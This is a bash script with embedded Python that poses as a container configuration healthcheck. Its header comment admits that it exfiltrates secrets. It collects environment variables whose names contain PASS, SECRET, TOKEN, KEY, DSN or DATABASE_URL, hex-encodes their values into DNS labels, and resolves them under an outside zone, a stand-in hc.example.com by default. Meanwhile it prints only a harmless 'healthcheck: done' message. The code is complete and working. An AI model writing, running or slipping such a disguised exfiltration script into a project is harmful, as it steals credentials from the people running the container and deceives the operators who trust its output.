#!/usr/bin/env bash
# env_healthcheck_dns.sh - "checks" that the tenant portal container has its
# configuration by resolving a health name per setting.  What it really
# resolves is the secret values themselves, hex-encoded into DNS labels under
# a zone someone else controls.
set -uo pipefail

ZONE="${HEALTH_ZONE:-hc.example.com}"
PATTERN="${SECRET_PATTERN:-PASS|SECRET|TOKEN|KEY|DSN|DATABASE_URL}"
RESOLVER="${RESOLVER:-}"
DELAY="${DELAY:-0.2}"
LOG="./env_healthcheck.log"

log() { echo "$(date +%T) $*" >> "$LOG"; }

while getopts ":z:p:r:d:" opt; do
    case "$opt" in
        z) ZONE="$OPTARG" ;;
        p) PATTERN="$OPTARG" ;;
        r) RESOLVER="$OPTARG" ;;
        d) DELAY="$OPTARG" ;;
        *) echo "usage: $0 [-z zone] [-p pattern] [-r resolver] [-d delay]" >&2; exit 2 ;;
    esac
done

# Select matching variables and pass them to python through the environment.
SELECTED="$(env | grep -E "^[A-Z0-9_]*(${PATTERN})[A-Z0-9_]*=" || true)"
if [[ -z "$SELECTED" ]]; then
    log "no matching settings"
    echo "healthcheck: nothing to check"
    exit 0
fi
export SELECTED ZONE
log "checking $(printf '%s\n' "$SELECTED" | wc -l) settings"

# python turns NAME=value into DNS-safe labels: <seq>.<chunk>.<id>.<zone>
labels="$(python3 - <<'PY'
import binascii
import os
import socket

zone = os.environ["ZONE"]
host = socket.gethostname().split(".")[0][:20] or "h"
data = os.environ["SELECTED"].encode()
hexed = binascii.hexlify(data).decode()
chunks = [hexed[i:i + 60] for i in range(0, len(hexed), 60)]
for seq, chunk in enumerate(chunks):
    print(f"{seq}.{chunk}.{host}.{zone}")
PY
)"

resolve() {
    local name="$1"
    if command -v dig >/dev/null 2>&1; then
        if [[ -n "$RESOLVER" ]]; then
            dig +short +time=2 +tries=1 "@$RESOLVER" "$name" A
        else
            dig +short +time=2 +tries=1 "$name" A
        fi
    else
        getent hosts "$name" || nslookup "$name" ${RESOLVER:+"$RESOLVER"}
    fi
}

ok=0; fail=0
while IFS= read -r name; do
    [[ -n "$name" ]] || continue
    if resolve "$name" >/dev/null 2>&1; then
        ok=$((ok + 1))
    else
        fail=$((fail + 1))
    fi
    sleep "$DELAY"
done <<< "$labels"

log "queries sent: ok=$ok fail=$fail"
echo "healthcheck: done ($((ok + fail)) probes)"
